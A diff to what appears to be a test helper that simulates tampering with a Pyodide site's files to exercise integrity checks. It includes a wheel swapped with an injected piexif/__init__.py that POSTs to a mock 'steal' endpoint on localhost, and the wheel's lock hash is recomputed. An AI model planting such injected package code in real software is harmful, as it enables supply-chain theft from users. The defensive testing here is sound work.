@@ -24,10 +24,9 @@ def _swap_wheel_and_its_hash(site):
     buffer = io.BytesIO()
     with zipfile.ZipFile(wheel) as original, zipfile.ZipFile(buffer, "w") as swapped:
         for item in original.infolist():
-            data = original.read(item)
-            if item.filename == "piexif/__init__.py":
-                data += b"\nimport js\njs.fetch('http://127.0.0.1:9/steal', method='POST')\n"
-            swapped.writestr(item, data)
+            swapped.writestr(item, original.read(item))
+        # a source beside the shipped bytecode: CPython would import it first
+        swapped.writestr("piexif/__init__.py", "import js\njs.fetch('http://127.0.0.1:9/steal', method='POST')\n")
     rewrite(wheel, buffer.getvalue())
     entry["sha256"] = hashlib.sha256(buffer.getvalue()).hexdigest()
     rewrite(lock_path, json.dumps(lock, indent=1, sort_keys=True).encode())
@@ -48,7 +47,7 @@ def _flip_wheel(site):
 
 TAMPERING = {
     "pyodide.asm.wasm": _flip("pyodide/pyodide.asm.wasm"),
-    "python_stdlib.zip": _flip("pyodide/python_stdlib.zip"),
+    "python_stdlib_rest.zip": _flip("pyodide/python_stdlib_rest.zip"),  # the standard library a start loads
     "pyodide.asm.js": _flip("pyodide/pyodide.asm.js"),
     "a wheel": _flip_wheel,
     "a wheel and its hash in the lock": _swap_wheel_and_its_hash,
